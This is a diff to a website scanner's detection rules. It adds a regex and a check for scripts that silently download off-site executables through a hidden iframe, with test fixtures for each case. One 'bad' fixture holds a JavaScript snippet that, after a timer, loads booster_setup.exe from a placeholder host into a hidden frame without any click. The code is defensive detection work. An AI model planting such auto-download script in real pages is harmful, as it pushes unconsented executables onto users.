@@ -244,11 +244,25 @@ _AUTO_DL = re.compile(r"(?:location(?:\.href)?\s*=|location\.replace\s*\(|http-e
                       r"\.(?:exe|apk|msi|scr|bat|vbs|jar|dmg)\b", re.I)
 
 
+# a script that builds a frame and points it at an executable elsewhere (createElement('iframe') … .src='…setup.exe'):
+# the download starts without a click even where the browser never saw it begin (the host did not answer)
+_FRAME_DL = re.compile(r"createElement\(\s*['\"]iframe['\"]\s*\)[\s\S]{0,400}?\.src\s*=\s*['\"]([^'\"]{1,300}?"
+                       r"\.(?:exe|apk|msi|scr|bat|vbs|jar|dmg))['\"]", re.I)
+
+
 def check_drive_by(p: Page, registry: Any, opts: dict[str, Any]) -> Iterator[Hit]:
+    started = False
     for ev in p.events:
         if ev.kind == "download" and not ev.user_initiated:
+            started = True
             yield Hit(match=ev.detail or "download", location=Location(kind="event", selector=ev.detail),
                       confidence=0.95 if _EXEC.search(ev.detail) else 0.8, excerpt=f"页面未经点击开始下载：{ev.detail}")
+    for sc in p.scripts if not started else ():
+        m = _FRAME_DL.search(sc.inline or "")
+        if m and not _CLICK.search(sc.inline or "") and not same_site(m.group(1), p.url):
+            yield Hit(match=m.group(1)[-60:], location=Location(kind="script", selector=sc.src or "inline"),
+                      confidence=0.8, excerpt=_short(sc.inline), detail="（脚本以隐藏框架下载可执行文件）")
+            break
     if not p.rendered:
         refresh = p.meta.get("refresh", "")
         for code, where in [(sc.inline, sc.src or "inline") for sc in p.scripts] + [(f"http-equiv=refresh {refresh}", "meta")]:
@@ -359,8 +373,16 @@ RULES: tuple[Rule, ...] = (
          what="Downloads started without a click (seen by the browser, or a script/meta refresh pointing at an executable).",
          why="第十五条第（十一）项；未经同意下载可执行文件是恶意程序传播方式。",
          bad=(site(home("欢迎", rendered=True, events=(BrowserEvent("download", HOME + "setup.exe"),)),
-                   description="渲染时自动下载 setup.exe"),),
+                   description="渲染时自动下载 setup.exe"),
+              site(home("正在为您下载加速器", rendered=True, scripts=(Script(inline=(
+                  "setTimeout(function(){var f=document.createElement('iframe');f.style.display='none';"
+                  "f.src='https://cdn-tools.example/dl/booster_setup.exe';document.body.appendChild(f);},1000);")),)),
+                   description="脚本建隐藏框架下载外站的 exe（下载未被浏览器看到）"),),
          good=(site(home("欢迎", rendered=True, events=(BrowserEvent("download", HOME + "manual.pdf", user_initiated=True),)),
-                    description="用户点击下载说明书"),),
+                    description="用户点击下载说明书"),
+               site(home("下载客户端", rendered=True, scripts=(Script(inline=(
+                   "btn.addEventListener('click',function(){var f=document.createElement('iframe');"
+                   "f.src='https://cdn-tools.example/dl/client_setup.exe';document.body.appendChild(f);});")),)),
+                    description="用户点击按钮后才下载"),),
          references=_LAW_MAL),
 )
